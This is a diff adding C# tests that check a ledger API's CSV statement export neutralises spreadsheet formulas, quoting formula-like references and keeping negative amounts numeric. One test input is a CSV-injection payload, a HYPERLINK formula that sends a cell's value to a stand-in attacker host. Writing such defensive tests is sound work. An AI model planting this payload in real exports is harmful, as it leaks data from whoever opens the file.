@@ -177,6 +177,57 @@ public sealed class StatementTests(LedgerApiFactory factory)
         rows[3][9].Should().Be(other.ToString());
     }
 
+    [Fact]
+    public async Task Csv_NeutralisesFormulaLikeTextAndKeepsNegativeAmountsAsNumbers()
+    {
+        string[] references = ["=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")", "+1", "-2+3", "@SUM(A1)"];
+        var accountId = await _teller.OpenAccountAsync();
+        foreach (var reference in references)
+        {
+            await _teller.DepositAsync(accountId, "10.00", reference, correlationId: "=1+1");
+        }
+
+        await _teller.WithdrawAsync(accountId, "3.50", "-withdrawal");
+        // Leading white space is trimmed from a reference and a tab within one is refused, so no tab reaches the CSV.
+        await _teller.DepositAsync(accountId, "1.00", "\tx");
+        using var tab = await _teller.DepositRawAsync(accountId, Teller.Json(new { amount = "1.00", reference = "a\tx" }));
+        await Teller.ExpectFieldProblem(tab, ProblemTypes.Validation, "reference");
+
+        using var request = new HttpRequestMessage(HttpMethod.Get, new Uri($"/api/v1/accounts/{accountId}/statement", UriKind.Relative));
+        request.Headers.Accept.Add(new MediaTypeWithQualityHeaderValue("text/csv"));
+        using var response = await _auditor.Http.SendAsync(request);
+        var csv = await response.Content.ReadAsStringAsync();
+
+        response.StatusCode.Should().Be(HttpStatusCode.OK, csv);
+        var rows = Rfc4180.Parse(csv);
+        var deposits = rows.Where(row => row[0] == "MoneyDeposited").ToList();
+        deposits.Select(row => row[10]).Should().Equal([.. references.Select(reference => "'" + reference), "x"],
+            "each formula-like reference gets a leading quote");
+        deposits.Take(references.Length).Should().OnlyContain(row => row[11] == "'=1+1", "a client-chosen correlation id is text too");
+        foreach (var reference in references)
+        {
+            csv.Should().Contain($",\"'{reference.Replace("\"", "\"\"", StringComparison.Ordinal)}\",", "a neutralised field is also quoted");
+        }
+
+        var withdrawal = rows.Single(row => row[0] == "MoneyWithdrawn");
+        withdrawal[10].Should().Be("'-withdrawal");
+        csv.Should().Contain(",-3.50,36.50,EUR,", "amounts stay plain numbers, negative ones too");
+        decimal.Parse(withdrawal[5], NumberStyles.Number, CultureInfo.InvariantCulture).Should().Be(-3.50m);
+        decimal.Parse(withdrawal[6], NumberStyles.Number, CultureInfo.InvariantCulture).Should().Be(36.50m);
+    }
+
+    [Theory]
+    [InlineData("\tx", "\"'\tx\"")]
+    [InlineData("\rx", "\"'\rx\"")]
+    [InlineData("=1", "\"'=1\"")]
+    [InlineData("a=1", "a=1")]
+    [InlineData("", "")]
+    [InlineData("Invoice, 42", "\"Invoice, 42\"")]
+    public void CsvText_NeutralisesWhatASpreadsheetWouldRun(string text, string field)
+    {
+        Ledger.Api.Audit.GetStatementEndpoint.Text(text).Should().Be(field);
+    }
+
     private static string Format(JsonElement value) => value.ValueKind == JsonValueKind.String ? value.GetString()! : "";
 
     /// <summary>The CSV row an entry of the JSON statement must become; amounts compare as decimals, written as in JSON.</summary>
